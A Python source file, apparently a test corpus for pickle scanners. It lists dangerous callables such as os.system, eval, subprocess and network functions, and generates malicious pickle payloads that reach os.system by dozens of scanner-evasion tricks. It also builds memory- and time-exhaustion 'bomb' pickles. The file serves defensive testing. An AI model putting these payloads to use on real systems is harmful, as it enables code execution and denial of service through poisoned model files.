"""A corpus of pickles that try to run something when they are loaded.

Each entry is the body of a pickle that would touch a canary file if its reader called, imported or
looked up what the body names. Collected from published advisories about scanners and loaders of
pickles (picklescan, modelscan, fickling, `torch.load`), and from the opcodes' definitions.
"""

from __future__ import annotations

import pickle
import struct

#: Functions that run a program, given a line for the shell.
SHELL = """
    os.system posix.system nt.system os.popen os.execl os.spawnl os.posix_spawn subprocess.run
    subprocess.call subprocess.check_call subprocess.check_output subprocess.getoutput
    subprocess.getstatusoutput subprocess.Popen commands.getoutput popen2.popen2 pty.spawn
    asyncio.create_subprocess_shell asyncio.unix_events._UnixSubprocessTransport
    asyncio.unix_events._UnixSubprocessTransport._start multiprocessing.util.spawnv_passfds
    pydoc.pipepager pydoc.tempfilepager webbrowser.open webbrowser.BackgroundBrowser
    platform.popen ctypes.util._findLib_gcc distutils.spawn.spawn setuptools.sandbox.run_setup
    numpy.distutils.exec_command.exec_command numpy.f2py.diagnose.run_command
    torch.utils.collect_env.run torch.utils.cpp_extension.load
    torch._inductor.codecache.compile_file pip.main pip._internal.main
    pip._internal.cli.main.main ensurepip._run_pip venv.create uuid._get_command_stdout
    IPython.core.interactiveshell.InteractiveShell.system idlelib.run.Executive
    idlelib.autocomplete.AutoComplete.get_entity
""".split()  # noqa: SIM905

#: Functions that run Python, given source code.
PYTHON = """
    builtins.eval builtins.exec builtins.compile builtins.__import__ builtins.open
    builtins.getattr __builtin__.eval __builtin__.execfile __builtin__.apply __builtin__.input
    builtins.breakpoint builtins.globals builtins.map builtins.filter builtins.setattr
    builtins.delattr builtins.vars builtins.help builtins.classmethod builtins.property
    builtins.super builtins.memoryview code.interact code.InteractiveInterpreter
    code.InteractiveInterpreter.runcode codeop.compile_command timeit.timeit timeit.main
    timeit.Timer cProfile.run cProfile.runctx profile.run profile.Profile.run
    profile.Profile.runctx trace.Trace.run trace.Trace.runctx bdb.Bdb.run bdb.Bdb.runeval
    pdb.run pdb.runeval doctest.debug_script doctest.debug doctest.run runpy._run_code
    runpy.run_path runpy.run_module runpy._run_module_code imp.load_source
    importlib.import_module importlib.util.spec_from_file_location importlib.reload
    importlib.machinery.SourceFileLoader pkgutil.resolve_name pkgutil.get_loader pydoc.locate
    pydoc.safeimport zipimport.zipimporter ctypes.CDLL ctypes.PyDLL ctypes.cdll.LoadLibrary
    marshal.loads types.CodeType types.FunctionType types.ModuleType types.DynamicClassAttribute
    pickle.loads pickle._loads pickle.Unpickler _pickle.loads cPickle.loads shelve.open
    copyreg.add_extension copyreg.pickle copyreg.__reduce_ex__ functools.partial
    functools.reduce operator.attrgetter operator.methodcaller operator.itemgetter operator.call
    _operator.methodcaller itertools.starmap atexit.register signal.signal threading.Thread
    sched.scheduler site.main sys.settrace sys.setprofile gc.get_objects inspect.getattr_static
    logging.config.fileConfig logging.config.listen lib2to3.pgen2.grammar.Grammar.loads
    lib2to3.pgen2.pgen.ParserGenerator linecache.updatecache warnings.catch_warnings
    string.Formatter.format ast.literal_eval idlelib.pyshell.ModifiedInterpreter
    idlelib.debugobj.ObjectTreeItem.SetText idlelib.calltip.Calltip.fetch_tip
    idlelib.calltip.get_entity xmlrpc.client.ServerProxy torch.load torch.serialization.load
    torch.storage._load_from_bytes torch.hub.load torch.hub.load_state_dict_from_url
    torch.jit.load torch.package.PackageImporter torch.jit.unsupported_tensor_ops.execWrapper
    torch.utils._config_module.ConfigModule.load_config torch.utils._config_module.load_config
    torch.utils.bottleneck.__main__.run_cprofile
    torch.utils.bottleneck.__main__.run_autograd_prof torch.fx.graph_module._forward_from_src
    torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
    torch.utils.data.datapipes.utils.decoder.basichandlers torch._dynamo.guards.GuardBuilder.get
    torch.fx.graph_module.reduce_graph_module torch.ops.load_library torch.classes.load_library
    torch.distributed.rpc.rpc_sync torch._C._jit_get_all_schemas torch.from_file torch.save
    torch.utils.model_dump.main torch._utils_internal.get_file_path torch.multiprocessing.spawn
    numpy.load numpy.fromfile numpy.memmap numpy.save numpy.testing._private.utils.runstring
    numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran.param_eval
    numpy.f2py.crackfortran.myeval numpy.f2py.crackfortran._eval_length
    numpy.f2py.crackfortran._eval_scalar numpy.lib.npyio.NpzFile numpy.ctypeslib.load_library
    numpy.core._internal._ctypes numpy.distutils.cpuinfo.command_info pandas.read_pickle
    pandas.eval pandas.core.frame.DataFrame.query joblib.load dill.loads cloudpickle.loads
    sklearn.externals.joblib.load keras.models.load_model
    tensorflow.python.keras.engine.functional.Functional fsspec.open jinja2.Template.render
    setuptools.build_meta.prepare_metadata pkg_resources.load_entry_point
    sfumato.checkpoints.pickles.read_pickle sfumato.config.Config.from_dict
    __main__.__builtins__.eval ldm.__builtins__.eval
""".split()  # noqa: SIM905

#: Functions that read, write, remove or fetch, given a path or address.
FILES = """
    builtins.open _io.open io.open io.FileIO _io.FileIO codecs.open os.open os.remove os.rename
    os.mkdir os.symlink os.truncate os.putenv os.chmod os.kill shutil.rmtree shutil.copyfile
    shutil.unpack_archive tarfile.open zipfile.ZipFile tempfile.NamedTemporaryFile glob.glob
    pathlib.Path.unlink pathlib.Path.write_text pathlib.os.system sqlite3.connect dbm.open
    distutils.file_util.write_file distutils.file_util.copy_file socket.create_connection
    urllib.request.urlopen urllib.request.urlretrieve http.client.HTTPConnection
    ssl.get_server_certificate ftplib.FTP smtplib.SMTP requests.get urllib3.request
    smtpd.SMTPServer telnetlib.Telnet xml.etree.ElementTree.parse mailbox.mbox fileinput.input
    logging.FileHandler cgitb.enable faulthandler.enable py_compile.compile
    compileall.compile_file
""".split()  # noqa: SIM905


def text(value: str) -> bytes:
    """A string, in the opcode that every protocol since the second has."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def global_name(dotted: str) -> bytes:
    """The name of a function, cut at its last dot."""
    module, _, name = dotted.rpartition(".")
    return b"c" + f"{module}\n{name}\n".encode()


def stack_global(dotted: str) -> bytes:
    """The same by two strings, which a scanner has to follow on the stack."""
    module, _, name = dotted.rpartition(".")
    return text(module) + text(name) + b"\x93"


def split_global(dotted: str) -> bytes:
    """The same cut at its first dot, so that the name has dots in it."""
    module, _, name = dotted.partition(".")
    return text(module) + text(name) + b"\x93"


def call(dotted: str, argument: str, name: bytes | None = None) -> bytes:
    """A call of a function with one string."""
    return (global_name(dotted) if name is None else name) + text(argument) + b"\x85R"


def calls(command: str) -> dict[str, bytes]:
    """Calls by every way of calling that the format has."""
    evil = global_name("os.system")
    one = text(command) + b"\x85"
    mark_and_argument = b"(" + text(command)
    return {
        "reduce": evil + one + b"R",
        "new object": evil + one + b"\x81",
        "new object with keywords": evil + one + b"}\x92",
        "object": b"(" + evil + text(command) + b"o",
        "instance": mark_and_argument + b"ios\nsystem\n",
        "name from the stack": stack_global("os.system") + one + b"R",
        "name with a dot": split_global("posix.system") + one + b"R",
        "name through another module": text("torch") + text("serialization.os.system") + b"\x93"
        + one + b"R",
        "name of many dots": text("collections") + text("abc.sys.modules") + b"\x93" + one + b"R",
        "name from the memo": text("os") + b"q\x070" + text("system") + b"q\x080h\x07h\x08\x93"
        + one + b"R",
        "name from a duplicate": text("posix") + b"20" + text("system") + b"\x93" + one + b"R",
        "name with spaces": b"c os\nsystem\n" + one + b"R",
        "name with a tab": b"cos\t\nsystem\n" + one + b"R",
        "function from a function": global_name("builtins.getattr") + global_name("os.path")
        + text("os") + b"\x86R" + text("system") + b"0" + one + b"R",
        "attribute of a module": global_name("builtins.getattr")
        + call("builtins.__import__", "os") + text("system") + b"\x86R" + one + b"R",
        "attribute of an enumeration": global_name("builtins.getattr") + global_name("os.environ")
        + text("system") + b"\x86R" + one + b"R",
        "result thrown away": evil + one + b"R0",
        "call without arguments": global_name("builtins.breakpoint") + b")R",
        "constructor of an ordinary class": global_name("copyreg._reconstructor") + evil
        + text(command) + b"N\x87R",
        "constructor by name": global_name("copyreg.__newobj__") + evil + text(command) + b"\x86R",
        "map over arguments": global_name("builtins.list")
        + global_name("builtins.map") + evil + b"]" + text(command) + b"a\x86R\x85R",
        "extension registry, short": b"\x82\x01" + one + b"R",
        "extension registry, middle": b"\x83\x01\x00" + one + b"R",
        "extension registry, long": b"\x84\x01\x00\x00\x00" + one + b"R",
        "persistent name": b"Pos.system\n",
        "persistent object": evil + one + b"RQ",
        "state of a function": evil + b"}" + text("__code__") + text(command) + b"sb",
        "state of a class": global_name("collections.OrderedDict") + b"}" + text("__reduce__")
        + evil + b"sb",
        "state that is called": call("my_training.Callback", "x") + evil + one + b"Rb",
        "bytes that are a pickle": global_name("pickle.loads")
        + b"C" + bytes([len(command)]) + command.encode() + b"\x85R",
        "bytes that torch would load": global_name("torch.storage._load_from_bytes")
        + b"C" + bytes([len(command)]) + command.encode() + b"\x85R",
        "rebuilt by another function": global_name("torch._tensor._rebuild_from_type_v2") + evil
        + global_name("torch.Tensor") + one + b"}" + b"(" + b"0" + b"tR",
        "rebuilt wrapper": global_name("torch._utils._rebuild_wrapper_subclass") + evil + one
        + b"\x86R",
        "numbers of NumPy": global_name("numpy.core.multiarray.scalar") + evil + one + b"R"
        + text("x") + b"\x86R",
        "out of band": b"\x97\x98",
    }  # fmt: skip


def proto(body: bytes) -> bytes:
    """The body as a whole pickle, with an empty dictionary as its result."""
    return b"\x80\x04" + body + b"0}."


def result(body: bytes) -> bytes:
    """The body as a whole pickle whose result is the body's."""
    return b"\x80\x04" + body + b"."


def bombs() -> dict[str, bytes]:
    """Pickles that cost a careless reader its memory or its time."""
    deep = b"(" * 200_000 + b"t" * 200_000
    laughs = b"]q\x00" + b"".join(
        b"](" + b"h" + bytes([i]) * 1 + (b"h" + bytes([i])) * 9 + b"eq" + bytes([i + 1])
        for i in range(60)
    )
    nested_key = b")q\x00" + b"".join(
        b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(60)
    )
    colliding = b"".join(
        b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little") + b"N" for i in range(60_000)
    )
    copies = (
        b"]("
        + b"N" * 20_000
        + b"eq\x00"
        + b"0"
        + (global_name("builtins.list") + b"h\x00\x85R0") * 20_000
    )
    return {
        "deep": deep,
        "laughs": laughs,
        "a key that is hashed forever": b"}" + nested_key + b"Ns",
        "keys that collide": b"}(" + colliding + b"u",
        "keys that collide in small numbers": b"}("
        + b"".join(b"J" + struct.pack("<i", i << 16) + b"N" for i in range(30_000)) + b"u",
        "copies of a long list": copies,
        "an integer of a million digits": b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6,
        "an integer of many digits": b"I" + b"9" * 10**6 + b"\n",
        "a string that claims a terabyte": b"\x8d" + struct.pack("<Q", 2**40) + b"x",
        "bytes that claim everything": b"\x8e" + struct.pack("<Q", 2**64 - 1),
        "a frame that claims a terabyte": b"\x95" + struct.pack("<Q", 2**40) + b"N",
        "a memo with a huge number": b"Nr\xff\xff\xff\xff",
        "a memo with a long number": b"Np" + b"9" * 20 + b"\n",
        "a memo that was never filled": b"h\x07",
        "an empty stack": b"R",
        "a mark that is never closed": b"(((",
        "many frames": (b"\x95" + bytes(8)) * 100_000 + b"N",
    }  # fmt: skip


def sound_table() -> bytes:
    """A pickle of an ordinary dictionary."""
    return pickle.dumps({"epoch": 3}, 2)
